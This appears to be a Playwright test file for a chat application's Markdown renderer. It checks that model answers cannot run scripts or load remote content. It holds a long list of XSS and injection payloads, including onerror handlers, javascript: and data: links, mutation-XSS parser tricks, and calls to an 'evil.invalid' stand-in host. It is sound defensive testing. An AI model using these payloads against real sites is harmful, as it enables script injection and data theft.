"""What a model says is shown and never runs: scripts, handlers, links, pictures, styles, and what browsers mend into them."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.async_api import expect

from autonomousai.testing import Pause, ScriptedProvider, answer

from .conftest import Serve, Sit

pytestmark = pytest.mark.asyncio(loop_scope="package")

#: Each would set `globalThis.pwned` if anything of it ran, or load something from elsewhere if it could.
ATTACKS = [
    "<script>globalThis.pwned = 1</script>",
    "<script src=https://evil.invalid/x.js></script>",
    '<img src=x onerror="globalThis.pwned = 1">',
    "<svg onload=globalThis.pwned=1><script>globalThis.pwned=1</script></svg>",
    "<svg><animate onbegin=globalThis.pwned=1 attributeName=x dur=1s></svg>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:globalThis.pwned=1></object><embed src=javascript:globalThis.pwned=1>",
    "<details open ontoggle=globalThis.pwned=1><summary>x</summary></details>",
    "<input autofocus onfocus=globalThis.pwned=1>",
    "<style>@import 'https://evil.invalid/x.css'; * { display: none !important }</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.invalid/x)'>x</div>",
    "<base href=https://evil.invalid/><meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<form action=https://evil.invalid/><button>Click</button></form>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "[click](javascript:globalThis.pwned=1)",
    "[click](JaVaScRiPt:globalThis.pwned=1)",
    "[click](java\tscript:globalThis.pwned=1)",
    "[click](&#106;avascript:globalThis.pwned=1)",
    "[click](\x01javascript:globalThis.pwned=1)",
    "[click](vbscript:globalThis.pwned=1)",
    "[click](data:text/html,<script>globalThis.pwned=1</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPTE8L3NjcmlwdD4=)",
    "[click](blob:http://localhost/x)",
    "[click](file:///etc/passwd)",
    "[x]: javascript:globalThis.pwned=1\n\n[click][x]",
    '[click](https://ok.invalid "x\\" onmouseover=\\"globalThis.pwned=1")',
    '[click](https://ok.invalid/" onclick="globalThis.pwned=1)',
    "<javascript:globalThis.pwned=1>",
    "![x](javascript:globalThis.pwned=1)",
    "![x](https://evil.invalid/track.png?secret)",
    '![x" onerror="globalThis.pwned=1](https://evil.invalid/x.png)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiLz4=)",
    '```"onmouseover=globalThis.pwned=1 x="\ncode\n```',
    "```html\n<img src=x onerror=globalThis.pwned=1>\n</code></pre><script>globalThis.pwned=1</script>\n```",
    "`</code><script>globalThis.pwned=1</script>`",
    "| a |\n|:-:|\n| <img src=x onerror=globalThis.pwned=1> |",
    "# <script>globalThis.pwned=1</script>",
    '<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.pwned=1&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=globalThis.pwned=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.pwned=1>",
    "<a href='https://ok.invalid' target=_top onclick=globalThis.pwned=1>x</a>",
    "&lt;script&gt;globalThis.pwned=1&lt;/script&gt;",
    "a<sub onclick=globalThis.pwned=1>b</sub> <sup><img src=x onerror=globalThis.pwned=1></sup> <br onload=globalThis.pwned=1>",
    "<x id=announcer><x id=composer name=body><img name=getElementById>",
    "<!--><script>globalThis.pwned=1</script>-->",
    "<![CDATA[<script>globalThis.pwned=1</script>]]>",
    "\u2028<script>globalThis.pwned=1</script>\u0000<img src=x onerror=globalThis.pwned=1>",
]

#: What an answer may consist of; nothing of it runs, loads, or submits.
TAGS = {
    "a",
    "blockquote",
    "br",
    "button",
    "code",
    "div",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "span",
}
TAGS |= {"kbd", "sub", "sup", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}
ATTRIBUTES = {"aria-label", "class", "data-copy", "dir", "href", "rel", "start", "tabindex", "target", "title", "type"}

SEEN = """
(text) => {
  const all = [...text.querySelectorAll("*")];
  return {
    tags: [...new Set(all.map((element) => element.localName))],
    attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
    links: [...text.querySelectorAll("a")].map((link) => [link.protocol, link.target, link.rel]),
  };
}
"""


#: What a reader's hand might set off.
TOUCH = """
(thread) => {
  for (const element of thread.querySelectorAll(".text *")) {
    for (const kind of ["mouseover", "focus", "toggle", "load", "error"]) element.dispatchEvent(new Event(kind));
  }
}
"""


def archived(texts: list[str]) -> bytes:
    """A file of one conversation in which these are the answers."""
    messages: list[dict[str, Any]] = []
    for number, text in enumerate(texts):
        shared = {"parent": messages[-1]["id"] if messages else None, "at": 1}
        messages.append({**shared, "id": f"q{number}", "role": "user", "text": "?", "images": []})
        messages.append(
            {
                **shared,
                "id": f"a{number}",
                "parent": f"q{number}",
                "role": "assistant",
                "text": text,
                "state": "done",
                "asked": "llama",
            }
        )
    conversation = {"id": "abc", "title": "Attacks", "created": 1, "updated": 1, "model": "llama", "head": messages[-1]["id"]}
    document = {"format": "autonomousai-conversations", "version": 1, "conversations": [{**conversation, "messages": messages}]}
    return json.dumps(document).encode()


async def test_no_attack_becomes_script(serve: Serve, sit: Sit) -> None:
    """One by one, in answers of their own; nothing of them runs, nothing is loaded from elsewhere."""
    reader = await sit(await serve())
    asked: list[str] = []
    reader.context.on("request", lambda request: asked.append(request.url))
    reader.page.on("dialog", lambda dialog: reader.problems.append(dialog.message))

    file: Any = {"name": "attacks.json", "mimeType": "application/json", "buffer": archived(ATTACKS)}
    await reader.page.locator("#import-file").set_input_files(file)
    await reader.conversation("Attacks").click()
    await expect(reader.page.locator(".answer")).to_have_count(len(ATTACKS))
    seen = [await text.evaluate(SEEN) for text in await reader.page.locator(".answer .text").all()]
    await reader.page.locator("#thread").evaluate(TOUCH)

    for each, attack in zip(seen, ATTACKS, strict=True):
        assert TAGS >= set(each["tags"]), attack
        assert ATTRIBUTES >= set(each["attributes"]), attack
        assert all(link[0] in {"http:", "https:"} and link[1:] == ["_blank", "noopener noreferrer"] for link in each["links"])
    assert [] == [url for url in asked if not url.startswith((reader.url, "data:"))]
    assert await reader.page.evaluate("globalThis.pwned ?? null") is None
    assert "evil.invalid" in await reader.page.locator("#thread").inner_text(), "they were really shown"


async def test_no_attack_becomes_script_while_it_streams(serve: Serve, sit: Sit, provider: ScriptedProvider) -> None:
    """All in one answer that comes in small pieces: what is half there is no hole either."""
    text = "\n\n".join(attack for attack in ATTACKS if not attack.startswith(("```", "<!--")))
    provider.play(answer(*(text[at : at + 5] for at in range(0, len(text), 5))))
    reader = await sit(await serve())
    asked: list[str] = []
    reader.context.on("request", lambda request: asked.append(request.url))

    await reader.ask("Attack")
    await reader.whole()
    seen = await reader.text.evaluate(SEEN)

    assert TAGS >= set(seen["tags"])
    assert ATTRIBUTES >= set(seen["attributes"])
    assert [] == [url for url in asked if not url.startswith((reader.url, "data:"))]
    assert await reader.page.evaluate("globalThis.pwned ?? null") is None


async def test_the_policy_would_hold_if_all_else_failed(serve: Serve, sit: Sit) -> None:
    """Markup put into the page past the renderer and the sanitizer is refused by the browser: strings become no HTML here."""
    reader = await sit(await serve())

    said = await reader.page.evaluate(
        """() => {
          const tries = {
            html: () => (document.body.innerHTML = "<img src=x onerror='globalThis.pwned = 1'>"),
            timer: () => setTimeout("globalThis.pwned = 1"),
            script: () => (document.createElement("script").text = "globalThis.pwned = 1"),
            handler: () => document.body.setAttribute("onclick", "globalThis.pwned = 1"),
          };
          const refused = (name) => { try { tries[name](); return false; } catch { return true; } };
          const result = Object.keys(tries).filter((name) => !refused(name));
          document.body.click();
          return [result, globalThis.pwned ?? null];
        }"""
    )

    assert [[], None] == said
    while len([problem for problem in reader.problems if problem.startswith("held back: ")]) < 4:
        await reader.page.evaluate("null")  # each is told, in its own time
    reader.problems.clear()


MARKDOWN = """\
# Title

Some **bold**, *slanted* and `plain` text with a [link](https://ok.invalid/a?b=c&d), https://bare.invalid and 1 < 2 & 3.

1. one
2. two

| left | right |
|:-----|------:|
| a    | b     |

> quoted

```python
def f(x: int) -> str:
    return f"<{x}>"
```

שלום עולם, זה טקסט מימין לשמאל.
"""


async def test_markdown_is_what_it_should_be(serve: Serve, sit: Sit, provider: ScriptedProvider) -> None:
    """Headings below the page's own, links out, lists, tables, coloured code that can be copied, text from the right."""
    provider.play(answer(*(MARKDOWN[at : at + 7] for at in range(0, len(MARKDOWN), 7))))
    reader = await sit(await serve(), permissions=["clipboard-read", "clipboard-write"])
    await reader.ask("Show me")
    await reader.whole()
    text = reader.text

    await expect(text.get_by_role("heading", name="Title", level=3)).to_be_visible()
    await expect(text.locator("strong")).to_have_text("bold")
    assert ["https://ok.invalid/a?b=c&d", "https://bare.invalid"] == [
        await link.get_attribute("href") for link in await text.locator("a").all()
    ]
    await expect(text.locator("td").nth(1)).to_have_css("text-align", "end")
    await expect(text.locator("pre .hljs-keyword").first).to_have_text("def")
    await expect(text.locator("p").last).to_have_css("direction", "rtl")
    await expect(text.locator("p").first).to_have_css("direction", "ltr")
    await text.get_by_role("button", name="Copy this python").click()
    await expect(text.get_by_role("button", name="Copy this python")).to_have_text("Copied")
    assert 'def f(x: int) -> str:\n    return f"<{x}>"' == await reader.page.evaluate("navigator.clipboard.readText()")
    await reader.answer.get_by_role("button", name="Copy", exact=True).click()
    await expect(reader.page.locator("#announcer")).to_have_text("Copied.")
    assert MARKDOWN == await reader.page.evaluate("navigator.clipboard.readText()")


#: Markdown, and what a part of it is on the page.
IN_LINES = [
    ("3. three\n4. four", "ol[start='3'] > li:nth-child(2)", "four"),
    ("1. Do:\n```sh\nls\n```\n2. Then", "ol[start='2'] > li", "Then"),
    ("**「重要」**です。これは**大事な**点です。", "strong:nth-of-type(2)", "大事な"),
    ("**テスト（括弧）**の", "strong", "テスト（括弧）"),
    ("**안녕(하세요)**는 인사", "strong", "안녕(하세요)"),
    ("这是**“重点”**的~~（旧）~~词", "strong", "“重点”"),
    ("这是**“重点”**的~~（旧）~~词", "s", "（旧）"),
    ("𠮷**（𠮷）**𠮷", "strong", "（𠮷）"),
    ("2*3*4 **a**b **c.**d snake_case_word", "p", "234 ab **c.**d snake_case_word"),
    ("漢字** は **標", "p", "漢字** は **標"),
    ("| a |\n|---|\n| x<br>y<br />z |", "td", "x\ny\nz"),
    ("H<sub>2</sub>O, x<SUP>n+1</SUP>", "sup", "n+1"),
    ("press <kbd>Ctrl</kbd>+<kbd>C</kbd>", "kbd:nth-of-type(2)", "C"),
    ("List<String>, <sub>open, `<br>` and <u>u</u>", "p", "List<String>, <sub>open, <br> and <u>u</u>"),
]


async def test_what_the_book_has_not_is_drawn(serve: Serve, sit: Sit) -> None:
    """Lists that begin elsewhere, emphasis without spaces around it, and tags without attributes; all else is as it stands."""
    reader = await sit(await serve())
    drawn = []
    for text, place, _ in IN_LINES:
        drawn.append(
            await reader.page.evaluate(
                """async ([text, place]) => {
                  const { render } = await import("/page/markdown.js");
                  const box = document.createElement("div");
                  box.append(render(text));
                  document.body.append(box);
                  const found = box.querySelector(place)?.innerText ?? box.innerHTML;
                  box.remove();
                  return found.trim();
                }""",
                [text, place],
            )
        )

    assert [expected for *_, expected in IN_LINES] == drawn


TASKS = """\
- [ ] milk
- [x] **bread**
- [link] and [ ]

1. [X] first

2. [ ] second
"""


async def test_a_list_of_tasks_has_boxes(serve: Serve, sit: Sit, provider: ScriptedProvider) -> None:
    """Where an item begins with one, in tight lists and in loose ones; other brackets are text."""
    provider.play(answer(TASKS))
    reader = await sit(await serve())
    await reader.ask("Show me")
    await reader.whole()

    items = await reader.text.locator("li").all_inner_texts()
    boxes = [await box.get_attribute("aria-label") for box in await reader.text.get_by_role("img").all()]

    assert ["☐ milk", "☑ bread", "[link] and [ ]", "☑ first", "☐ second"] == [text.strip() for text in items]
    assert ["to do", "done", "done", "to do"] == boxes


async def test_what_is_selected_stays_selected_while_the_answer_grows(
    serve: Serve, sit: Sit, provider: ScriptedProvider
) -> None:
    """What has not changed is not drawn again."""
    pause = Pause()
    provider.play(["First paragraph.\n\nSecond", pause, *answer(" paragraph.")])
    reader = await sit(await serve())
    await reader.ask("Show me")
    await expect(reader.text).to_contain_text("Second")

    await reader.text.locator("p").first.evaluate("(p) => getSelection().selectAllChildren(p)")
    pause.release()
    await reader.whole()

    assert "First paragraph." == await reader.page.evaluate("getSelection().toString()")


async def test_a_question_is_shown_as_it_was_written(serve: Serve, sit: Sit) -> None:
    """It is text, not Markdown: nothing of it is interpreted, in the list neither."""
    reader = await sit(await serve())
    written = "<b>bold</b> & **stars** <img src=x onerror=alert(1)>"

    await reader.ask(written)
    await reader.whole()

    await expect(reader.page.locator(".bubble")).to_have_text(written)
    await expect(reader.conversation(written)).to_have_text(written)
    assert 0 == await reader.page.locator("#list img, .question img").count()
    assert json.dumps(written) in json.dumps(await reader.kept())


async def test_a_text_that_cannot_be_drawn_is_shown_as_it_is(serve: Serve, sit: Sit, provider: ScriptedProvider) -> None:
    """Whatever the renderer fails at: its conversation can still be read, asked on, and left."""
    provider.play(answer("Some **text**"), answer("more"))
    reader = await sit(await serve(), open=False)
    broken = "export const render = () => { throw new Error('no'); }; export const settle = () => {};"
    await reader.context.route(
        "**/page/markdown.js", lambda route: route.fulfill(body=broken, content_type="text/javascript; charset=utf-8")
    )
    await reader.open()
    await reader.ask("Hello")
    await expect(reader.text).to_have_text("Some **text**")

    await reader.ask("And?")

    await expect(reader.text).to_have_text("more")
    await reader.page.reload()
    await expect(reader.page.locator(".answer .text").first).to_have_text("Some **text**")
